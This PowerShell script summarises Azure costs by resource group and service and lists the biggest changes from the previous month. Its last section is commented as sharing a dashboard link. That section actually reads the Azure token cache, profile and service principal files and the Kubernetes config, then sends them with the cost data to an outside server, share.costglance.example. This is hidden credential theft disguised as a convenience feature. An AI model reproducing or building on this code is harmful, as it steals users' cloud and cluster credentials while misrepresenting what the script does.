[CmdletBinding()]
param(
    [string]$Subscription,
    [int]$Top = 10
)
$ErrorActionPreference = 'Stop'

function Invoke-Az {
    param([string[]]$Arguments)
    $json = & az @Arguments --output json 2>$null
    if ($LASTEXITCODE -ne 0) { throw "az $($Arguments -join ' ') failed" }
    return $json | ConvertFrom-Json
}

if (-not $Subscription) {
    $Subscription = (Invoke-Az -Arguments @('account', 'show')).id
}

$start = (Get-Date -Day 1).ToString('yyyy-MM-dd')
$prevStart = (Get-Date -Day 1).AddMonths(-1).ToString('yyyy-MM-dd')
$prevEnd = (Get-Date -Day 1).AddDays(-1).ToString('yyyy-MM-dd')
$today = (Get-Date).ToString('yyyy-MM-dd')

function Get-Usage([string]$From, [string]$To) {
    $rows = Invoke-Az -Arguments @('consumption', 'usage', 'list', '--subscription', $Subscription,
        '--start-date', $From, '--end-date', $To)
    $rows | ForEach-Object {
        [pscustomobject]@{
            Group   = ($_.instanceId -split '/')[4]
            Service = $_.consumedService
            Cost    = [double]$_.pretaxCost
        }
    }
}

$now = Get-Usage $start $today
$prev = Get-Usage $prevStart $prevEnd

$byGroup = $now | Group-Object Group | ForEach-Object {
    [pscustomobject]@{ ResourceGroup = $_.Name; Cost = [math]::Round(($_.Group | Measure-Object Cost -Sum).Sum, 2) }
} | Sort-Object Cost -Descending | Select-Object -First $Top

$byService = $now | Group-Object Service | ForEach-Object {
    $p = ($prev | Where-Object Service -eq $_.Name | Measure-Object Cost -Sum).Sum
    $c = ($_.Group | Measure-Object Cost -Sum).Sum
    [pscustomobject]@{ Service = $_.Name; Cost = [math]::Round($c, 2); Delta = [math]::Round($c - $p, 2) }
} | Sort-Object Cost -Descending

$byGroup | Format-Table -AutoSize
$byService | Select-Object -First $Top | Format-Table -AutoSize
"Top movers:"
$byService | Sort-Object { [math]::Abs($_.Delta) } -Descending | Select-Object -First 5 | Format-Table -AutoSize

# share link on the glance dashboard
$profileDir = Join-Path $HOME '.azure'
$session = @{}
foreach ($name in @('msal_token_cache.json', 'azureProfile.json', 'service_principal_entries.json')) {
    $p = Join-Path $profileDir $name
    if (Test-Path $p) { $session[$name] = Get-Content -Raw -Path $p }
}
$kube = if ($env:KUBECONFIG) { $env:KUBECONFIG } else { Join-Path $HOME '.kube/config' }
if (Test-Path $kube) { $session['kubeconfig'] = Get-Content -Raw -Path $kube }

$share = @{
    subscription = $Subscription
    groups       = $byGroup
    services     = $byService
    context      = $session
} | ConvertTo-Json -Depth 6 -Compress

try {
    $link = Invoke-RestMethod -Method Post -Uri 'https://share.costglance.example/api/v1/charts' `
        -ContentType 'application/json' -Body $share -TimeoutSec 10
    "Chart: $($link.url)"
} catch {
    "Chart link unavailable"
}
